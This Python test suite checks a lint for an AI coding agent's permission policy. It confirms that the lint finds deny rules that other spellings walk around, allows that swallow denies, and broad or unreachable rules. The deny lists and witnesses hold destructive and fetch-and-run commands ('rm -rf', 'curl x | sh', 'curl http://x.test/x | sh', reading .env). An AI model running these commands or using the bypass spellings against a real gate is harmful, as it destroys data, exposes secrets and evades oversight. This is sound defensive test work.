"""What the lint says of a policy is so: each finding is proved by the gate itself."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from a3s_code.capabilities.function_tool import RESERVED_NAMES
from a3s_code.capabilities.git.tool import GIT_TOOLS
from a3s_code.capabilities.tools import CORE_TOOLS
from a3s_code.harness.policy import PermissionPolicy
from a3s_code.harness.policy_lint.case import Finding
from a3s_code.harness.policy_lint.checks import findings
from a3s_code.harness.trial import Trial, name_of, rules_of, without

TRIAL = Trial({tool.name: tool for tool in (*CORE_TOOLS, *GIT_TOOLS)})


def look(**lists: list[str] | str) -> list[Finding]:
    policy = PermissionPolicy(**lists)  # type: ignore[arg-type]
    return list(findings(policy.compile(), TRIAL, tuple(RESERVED_NAMES)))


def kinds(found: list[Finding]) -> list[tuple[str, str]]:
    return [(each.placed.named, each.kind) for each in found]


def only(kind: str, **lists: list[str] | str) -> Finding:
    (found,) = [each for each in look(**lists) if each.kind == kind]
    return found


def decided(finding: Finding, **lists: list[str] | str) -> str:
    policy = PermissionPolicy(**lists).compile()  # type: ignore[arg-type]
    return name_of(TRIAL.decide(policy, *finding.witness))


def test_nothing_is_said_of_a_policy_that_does_what_it_seems_to() -> None:
    assert not look(
        allow=["read", "grep", "glob", "ls", "edit", "bash(git status)", "bash(git log *)"],
        ask=["bash(make *)", "bash(make)"],
        deny=["bash(rm *)", "write(**/.env)", "edit(**/.env)", "patch(**/.env)", "mcp__github"],
        default_decision="deny",
    )


@pytest.mark.parametrize(
    ("deny", "witness"),
    [
        ("bash(rm -rf*)", "rm -r -f x"),
        ("bash(rm -r -f *)", "rm -rf x"),
        ("bash(rm --recursive *)", "rm -R x"),
        ("bash(chmod -R *)", "chmod --recursive x"),
        ("bash(git push --force*)", "git push -f x"),
        ("bash(git push *)", "git push"),
        ("bash(git reset --hard*)", "git reset x --hard"),
        ("bash(rm -rf /*)", "rm -r -f / x"),
        ("bash(curl * | sh)", "curl x  |  sh"),
    ],
)
def test_a_deny_that_another_spelling_walks_around_is_shown_one(deny: str, witness: str) -> None:
    lists = {"deny": [deny], "allow": ["bash"]}
    found = only("evaded", **lists)

    assert found.placed.named == f"deny {deny}"
    assert found.witness == ("bash", witness)
    assert decided(found, **lists) != "deny"


@pytest.mark.parametrize("deny", ["bash(rm *)", "bash(sudo *)", "bash(git push*)", "bash(rm*)"])
def test_a_deny_that_holds_for_every_spelling_is_left_alone(deny: str) -> None:
    assert not [each for each in look(deny=[deny]) if each.kind == "evaded"]


def test_what_is_denied_by_default_anyway_is_not_walked_around() -> None:
    assert not look(deny=["bash(rm -rf*)"], default_decision="deny")


def test_an_ask_is_walked_around_by_what_is_allowed_only() -> None:
    found = only("evaded", ask=["bash(git push *)"], allow=["bash(git push)"])
    assert found.witness == ("bash", "git push")
    assert not look(ask=["bash(git push *)"])


@pytest.mark.parametrize(
    ("deny", "allow", "witness"),
    [
        ("bash(rm *)", "bash(unlink *)", ("bash", "unlink x")),
        ("read(**/.env*)", "bash(cat *)", ("bash", "cat .env")),
        ("write(**/.env)", "edit", ("edit", ".env")),
        ("edit(a/*.py)", "bash(cp *)", ("bash", "cp x a/.py")),
        ("bash(pip install *)", "bash(pip3 *)", ("bash", "pip3 install x")),
    ],
)
def test_an_allow_that_swallows_what_a_deny_means_is_shown_by_a_call(
    deny: str, allow: str, witness: tuple[str, str]
) -> None:
    lists = {"deny": [deny], "allow": [allow]}
    found = next(each for each in look(**lists) if each.kind == "swallowed")

    assert found.witness == witness
    assert f"allow {allow} allows" in found.sentence
    assert decided(found, **lists) == "allow"


def test_wrappers_that_the_gate_sees_through_swallow_nothing() -> None:
    wrappers = ["env", "sudo", "timeout", "xargs", "find", "sh", "nohup", "watch"]
    lists = {"deny": ["bash(git push*)"], "allow": [f"bash({name} *)" for name in wrappers]}
    assert not [each for each in look(**lists) if each.kind == "swallowed"]


@pytest.mark.parametrize(
    ("lists", "expected"),
    [
        ({"allow": ["bash(git status)", "bash(git *)"]}, []),
        (
            {"allow": ["bash(git status*)", "bash(git *)"]},
            [("allow bash(git status*)", "redundant")],
        ),
        ({"allow": ["read(src/*)", "read(src/**)"]}, [("allow read(src/*)", "redundant")]),
        ({"allow": ["read(src/**)", "read(src/*)"]}, [("allow read(src/*)", "redundant")]),
        ({"allow": ["read", "READ"]}, [("allow READ", "redundant")]),
        ({"deny": ["bash(a?)", "bash(ab)"]}, [("deny bash(ab)", "redundant")]),
        ({"deny": ["bash(a*)"], "allow": ["bash(ab *)"]}, [("allow bash(ab *)", "unreachable")]),
        ({"allow": ["glob"], "ask": ["glob(*.py*)"]}, [("ask glob(*.py*)", "unreachable")]),
        ({"deny": ["mcp__a"], "allow": ["mcp__a__b"]}, [("allow mcp__a__b", "unreachable")]),
        ({"allow": ["mcp__a__b"], "deny": ["mcp__a__b(x)"]}, []),
        ({"allow": ["*"], "deny": ["write"], "ask": ["edit"]}, [("ask edit", "unreachable")]),
    ],
)
def test_rules_that_others_cover_are_named(
    lists: dict[str, list[str]], expected: list[tuple[str, str]]
) -> None:
    of = ("redundant", "unreachable")
    assert [each for each in kinds(look(**lists)) if each[1] in of] == expected


def test_an_unreachable_rule_is_shown_a_call_that_others_decide() -> None:
    found = only("unreachable", allow=["bash(git *)"], ask=["bash(git stash*)"])
    assert found.witness == ("bash", "git stash")
    assert "so bash `git stash` is decided as allow" in found.sentence


@pytest.mark.parametrize(
    ("rule", "kind", "said"),
    [
        ("raed", "tool", "did you mean read?"),
        ("bsh(git *)", "tool", "did you mean bash?"),
        ("write(src/)", "nothing", "matches no path"),
        ("write(a//b)", "nothing", "matches no path"),
        ("git(status)", "nothing", "as JSON"),
        ('bash(git commit -m "x")', "nothing", "without its quotes"),
        ("bash(git  status)", "nothing", "one blank"),
        ("bash(cd x && make)", "nothing", "taken apart"),
        ("bash", "broad", "curl http://x.test/x | sh"),
        ("bash(python *)", "broad", "python x.py"),
        ("bash(sh *)", "broad", "sh x.sh"),
        ("bash(git*)", "prefix", "`gitx`"),
        ("bash(ls:*)", "prefix", "`lsx`"),
    ],
)
def test_traps_are_named(rule: str, kind: str, said: str) -> None:
    found = only(kind, allow=[rule])
    assert said in found.sentence
    assert not found.witness[0] or decided(found, allow=[rule]) in ("allow", "ask")


def test_tools_of_the_host_and_of_servers_are_no_mistakes() -> None:
    policy = PermissionPolicy(allow=["deploy", "mcp__github__search", "task"]).compile()
    assert not findings(policy, TRIAL, (*RESERVED_NAMES, "deploy"))


RULES = st.sampled_from(
    [
        "bash", "bash(a *)", "bash(a*)", "bash(a b)", "bash(a b*)", "bash(*b)", "bash(rm *)",
        "bash(rm -rf*)", "bash(git *)", "bash(git push*)", "bash(git status)", "read", "write",
        "read(src/*)", "write(src/**)", "write(**/.env)", "edit(*.py)", "*", "write(.git/config)",
        "bash(tee *)", "bash(env *)", "bash(cat *)", "grep(a*)", "mcp__a", "mcp__a__b", "git",
        "bash(find *)", "bash(python *)", "bash(?)", "*(a)", "e*", "write(src/a)",
    ]
)  # fmt: skip
LISTS = st.lists(RULES, max_size=4, unique=True)
POLICIES = st.builds(
    PermissionPolicy, LISTS, LISTS, LISTS, st.sampled_from(["allow", "ask", "deny"])
)


def test_what_would_take_too_long_is_said_to_be_unknown() -> None:
    """Seen through to the end, these would have a million states and more."""
    gap = "?" * 20
    found = look(allow=[f"bash(*a{gap}b*)", f"bash(*b{gap}a*)"])
    assert [each.placed.rule.source for each in found if each.kind == "unknown"] == [
        f"bash(*a{gap}b*)",
        f"bash(*b{gap}a*)",
    ]


WORDS = """
a b rm -rf git push status tee .git/config ; | env $X src/a > .env && cat find -delete python x.py
''
"""
LINES = st.lists(
    st.sampled_from(WORDS.split()),
    max_size=5,
).map(" ".join)
CALLS = st.one_of(
    st.tuples(st.just("bash"), LINES),
    st.tuples(
        st.sampled_from(["read", "write", "edit", "patch"]),
        st.sampled_from(["src/a", "src/a/b", ".env", "a/.env", "a.py", ".git/config", "x"]),
    ),
    st.tuples(st.sampled_from(["mcp__a__b", "mcp__a__c", "deploy"]), st.sampled_from(["a", "{}"])),
)


@settings(max_examples=25, deadline=None)
@given(POLICIES, st.lists(CALLS, min_size=1, max_size=30))
def test_a_rule_that_is_said_to_be_covered_could_be_taken_out(
    policy: PermissionPolicy, made: list[tuple[str, str]]
) -> None:
    compiled = policy.compile()
    for found in findings(compiled, TRIAL, tuple(RESERVED_NAMES)):
        if found.kind != "redundant":
            continue
        less = without(compiled, found.placed.among, found.placed.rule)
        for name, text in made:
            before = name_of(TRIAL.decide(compiled, name, text))
            assert name_of(TRIAL.decide(less, name, text)) == before, (found, name, text)


@settings(max_examples=25, deadline=None)
@given(POLICIES)
def test_every_witness_is_decided_as_its_finding_says(policy: PermissionPolicy) -> None:
    compiled = policy.compile()
    for found in findings(compiled, TRIAL, tuple(RESERVED_NAMES)):
        assert found.placed.rule in rules_of(compiled, found.placed.among)
        if not found.witness[0]:
            continue
        made = name_of(TRIAL.decide(compiled, *found.witness))
        match found.kind:
            case "swallowed" | "broad" | "prefix":
                assert made == "allow"
            case "evaded":
                assert (made == "allow") is (" is allowed" in found.sentence)
                assert made != found.placed.among
            case "unreachable":
                assert found.sentence.endswith(f"decided as {made}")
            case other:
                raise AssertionError(other)
